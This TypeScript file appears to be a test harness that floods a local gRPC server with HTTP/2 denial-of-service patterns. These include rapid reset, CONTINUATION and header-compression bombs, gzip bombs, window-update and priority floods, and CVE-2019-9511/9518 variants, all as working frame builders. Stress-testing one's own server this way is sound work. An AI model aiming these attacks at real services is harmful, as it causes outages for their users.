/**
 * Attacks on a gRPC server over HTTP/2, one connection after another: `node grpc-attacks.ts NAME PORT SECONDS`. Ends by printing its figures
 * as JSON.
 */
import { connect } from "node:net";
import { gzipSync } from "node:zlib";
import { streamRequest } from "../../servers/grpc/services/example-messages.ts";
import { callFields, field, flags, frameTypes, h2Frame, preface } from "../../test/grpc/h2-frames.ts";

export interface AttackFigures {
  readonly connections: number;
  readonly bytes: number;
}

const { data, headers, priority, rstStream, settings, ping, windowUpdate, continuation } = frameTypes;
const oddStreams = (count: number): readonly number[] => Array.from({ length: count }, (_, index) => 2 * index + 1);
const begin = (stream: number, path: string, more: Buffer = Buffer.alloc(0)): Buffer =>
  h2Frame(headers, flags.endHeaders, stream, Buffer.concat([callFields(path), more]));
/** A message in frames, behind its prefix. */
function message(stream: number, length: number, content: Buffer, isCompressed = false): Buffer {
  const prefix = Buffer.from([isCompressed ? 1 : 0, 0, 0, 0, 0]);
  prefix.writeUInt32BE(length, 1);
  return h2Frame(data, 0, stream, Buffer.concat([prefix, content]));
}
const sayHello = "/example.Greeter/SayHello";
const subscribe = "/example.StreamService/Subscribe";
/** A request for a stream of 100,000 items a second. */
const hundredThousand = streamRequest.frame({ fromPosition: 0, count: 0, rate: 100_000, payloadBytes: 100 });

/** What a connection sends behind its preface. */
export const http2Attacks: Readonly<Record<string, () => Buffer>> = {
  "rapid-reset": () =>
    Buffer.concat(
      oddStreams(3_000).flatMap((stream) => [begin(stream, subscribe), h2Frame(rstStream, 0, stream, Buffer.from([0, 0, 0, 8]))]),
    ),
  ping: () => Buffer.concat(Array.from({ length: 3_000 }, () => h2Frame(ping, 0, 0, Buffer.alloc(8)))),
  settings: () => Buffer.concat(Array.from({ length: 3_000 }, () => h2Frame(settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])))),
  continuation: () =>
    Buffer.concat([
      h2Frame(headers, 0, 1, callFields(sayHello)),
      ...Array.from({ length: 5_000 }, () => h2Frame(continuation, 0, 1, field("a", "x".repeat(100)))),
    ]),
  // RFC 7541: one long field is indexed, and then referred to with a byte each.
  "header-bomb": () =>
    begin(
      1,
      sayHello,
      Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xb9, 0x16]), Buffer.alloc(3_000, "x"), Buffer.alloc(12_000, 0xbe)]),
    ),
  "10,000-streams": () => Buffer.concat(oddStreams(10_000).map((stream) => begin(stream, subscribe))),
  "long-messages": () =>
    Buffer.concat(oddStreams(200).flatMap((stream) => [begin(stream, sayHello), message(stream, 1 << 30, Buffer.alloc(100))])),
  "gzip-bombs": () => {
    const bomb = gzipSync(Buffer.alloc(8 << 20));
    return Buffer.concat(
      oddStreams(7).flatMap((stream) => [
        begin(stream, sayHello, field("grpc-encoding", "gzip")),
        message(stream, bomb.length, bomb.subarray(0, 8_000), true),
        h2Frame(data, flags.endStream, stream, bomb.subarray(8_000)),
      ]),
    );
  },
  "window-update": () => {
    const one = h2Frame(windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]));
    return Buffer.concat([begin(1, subscribe), ...Array.from({ length: 20_000 }, () => one)]);
  },
  priority: () => Buffer.concat(oddStreams(20_000).map((stream) => h2Frame(priority, 0, stream, Buffer.from([0, 0, 0, 0, stream & 0xff])))),
  // CVE-2019-9518
  "empty-data": () => Buffer.concat([begin(1, sayHello), ...Array.from({ length: 20_000 }, () => h2Frame(data, 0, 1))]),
  "one-byte-data": () =>
    Buffer.concat(
      oddStreams(100).flatMap((stream) => [
        begin(stream, sayHello),
        ...Array.from({ length: 200 }, (_, index) => h2Frame(data, 0, stream, Buffer.from([index === 3 ? 4 : 0]))),
      ]),
    ),
  // CVE-2019-9511: what is answered has a window of a byte, which opens again and again.
  "data-dribble": () =>
    Buffer.concat([
      h2Frame(settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0])),
      ...oddStreams(100).map((stream) =>
        Buffer.concat([begin(stream, subscribe), h2Frame(data, flags.endStream, stream, hundredThousand)]),
      ),
      ...Array.from({ length: 20 }, () =>
        oddStreams(100).map((stream) => h2Frame(windowUpdate, 0, stream, Buffer.from([0, 0, 0, 1]))),
      ).flat(),
    ]),
  // The table of header fields is resized by each.
  "table-sizes": () =>
    Buffer.concat(
      Array.from({ length: 900 }, (_, index) => h2Frame(settings, 0, 0, Buffer.from([0, 1, 0, 0, index % 2 === 0 ? 16 : 0, 0]))),
    ),
  "unknown-paths": () => Buffer.concat(oddStreams(250).map((stream) => begin(stream, `/${stream.toString(36)}/${"x".repeat(60)}`))),
};
export const attackNames = Object.keys(http2Attacks);

/** Resolves when the server has closed the connection, or takes no more for a moment. */
function attackOnce(port: number, bytes: Buffer): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(port, "127.0.0.1");
    socket.on("error", () => {});
    socket.resume();
    socket.write(Buffer.concat([preface, bytes]));
    socket.setTimeout(200, () => socket.destroy());
    socket.once("close", () => resolve());
  });
}

const [, program = "", name = "", port = "", seconds = ""] = process.argv;
if (import.meta.filename === program) {
  const bytes = http2Attacks[name]!();
  const end = performance.now() + Number(seconds) * 1_000;
  process.stdout.write("{}\n");
  let connections = 0;
  for (; performance.now() < end; connections++) await attackOnce(Number(port), bytes);
  const figures: AttackFigures = { connections, bytes: connections * bytes.length };
  process.stdout.write(`${JSON.stringify(figures)}\n`);
}
